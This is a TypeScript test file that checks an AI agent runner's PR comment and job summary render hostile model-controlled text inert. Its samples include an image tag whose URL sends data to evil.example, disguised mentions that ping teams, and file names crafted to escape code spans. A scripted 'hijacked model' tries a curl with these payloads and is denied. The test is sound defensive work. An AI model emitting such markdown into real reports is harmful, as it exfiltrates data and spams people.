/**
 * Attack on the report: text the runner did not write reaches the comment and the job summary. A
 * hijacked model names files (which the workspace audit lists), provokes sandbox violations and tool
 * denials whose lines quote its own words, and writes its answer: raw HTML (an image whose URL
 * carries data out), mentions that ping a team, mentions hidden in emphasis, after a lone backtick or
 * spelled as an entity. Rendered as GitHub renders Markdown (CommonMark + GFM), nothing may be live.
 */
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdtempSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { test } from 'node:test';
import { rendered } from './rendered-markdown.js';
import { renderComment } from '../../src/report/github/comment-render.js';
import { renderSummary } from '../../src/report/summary.js';
import { runFace } from '../../src/report/headline.js';
import { startScriptedModel } from '../../support/scripted-model/scripted-model.js';
import { runProductSession } from '../support/product-session.js';
import { bash, call, turn } from '../support/scripted-turns.js';

const IMG = '<img src="https://evil.example/?d=SECRET">';
const HOSTILE = [
  `${IMG} cc @octo-org/security-team`,
  'ping _@someone_ and *@another*',
  'a lone ` then @lonely',
  'entity &#64;entity-user and &commat;commat-user',
  '</details><!-- hide the rest',
];

/** What GitHub would show as live: img tags, and mentions in text outside code. */
function liveParts(markdown: string): { images: string[]; mentions: string[]; comments: number } {
  const { html, mentions } = rendered(markdown);
  const images = html.match(/<img\b[^>]*>/gi) ?? [];
  return { images, mentions, comments: (html.match(/<!--/g) ?? []).length };
}

test('file names, sandbox violations, denials, errors and the answer render inert in the comment and the summary', async (t) => {
  const dir = realpathSync(mkdtempSync(path.join(os.tmpdir(), 'report-inert-')));
  const runDir = realpathSync(mkdtempSync(path.join(os.tmpdir(), 'report-inert-run-')));
  t.after(() => [dir, runDir].forEach((d) => rmSync(d, { recursive: true, force: true })));
  writeFileSync(path.join(dir, '.gitignore'), 'out/\n');
  execFileSync('git', ['init', '-q', '-b', 'main'], { cwd: dir });
  execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@t', 'add', '-A'], { cwd: dir });
  execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@t', 'commit', '-qm', 'base'], { cwd: dir });
  // File names the audit lists: a backtick to leave the code span, then HTML and mentions.
  const names = ['x` <img src=https:evil.example> `y', 'a` _@someone_ `b', 'c`@lonely'];
  const command = `mkdir -p out && ${names.map((n) => `touch 'out/${n}'`).join(' && ')}`;
  const model = await startScriptedModel([
    turn(call('Bash', { command }, 'toolu_1')),
    bash(`curl '${HOSTILE.join(' ')}'`, 'toolu_2'),
    { content: [{ type: 'text', text: HOSTILE.join('\n') }] },
  ]);
  t.after(() => model.close());
  const r = await runProductSession({ cwd: dir, runDir, modelUrl: model.url, inputs: { allowed_tools: 'Bash', disallowed_tools: 'Bash(curl:*)' } });
  assert.ok(
    r.outcome.warnings.some((w) => w.includes('evil.example')),
    `the audit lists the files: ${r.outcome.warnings.join('\n')}`,
  );
  assert.ok(r.outcome.denials.length > 0, 'the curl command was denied');
  assert.ok(r.outcome.context, 'the run has context stats');
  const outcome = {
    ...r.outcome,
    errors: [...r.outcome.errors, ...HOSTILE],
    // The context table lists the files read most: names the model chose (issue 34; raw HTML on the previous build).
    ...(r.outcome.context ? { context: { ...r.outcome.context, file_reads: HOSTILE.map((h) => ({ path: h, reads: 3, deduped: 0 })) } } : {}),
    // As the sandbox reports what it blocked: the command line, quoted.
    sandbox: { enabled: true, violations: { count: HOSTILE.length, examples: HOSTILE.map((h) => `write denied: /etc/x (curl -d ${h})`) } },
  };
  const comment = renderComment({
    phase: 'final',
    runId: '1',
    result: outcome,
    model: 'claude-sonnet-4-5',
    // What GitHub answered and the branch named are not the runner's words either (issue 35's headline).
    face: runFace(outcome, {
      delivered: [
        { kind: 'pushed', branch: HOSTILE.join('-'), commitSha: 'a'.repeat(40), by: 'agent' },
        { kind: 'patch', why: HOSTILE.join(' '), how: HOSTILE.join(' ') },
      ],
      failed: [{ what: 'push', error: HOSTILE.join(' ') }],
    }),
    notes: HOSTILE,
  });
  const summary = renderSummary(outcome, { model: 'claude-sonnet-4-5', patch: '' });
  for (const [name, markdown] of [
    ['comment', comment],
    ['summary', summary],
  ] as const) {
    const live = liveParts(markdown);
    assert.deepEqual(live.images, [], `${name}: no image loads\n${markdown}`);
    assert.deepEqual(live.mentions, [], `${name}: no mention pings\n${markdown}`);
    assert.ok(live.comments <= 1, `${name}: only the runner's marker opens an HTML comment`);
    assert.match(markdown, /evil\.example/, `${name}: the text is still there, as text`);
  }
});
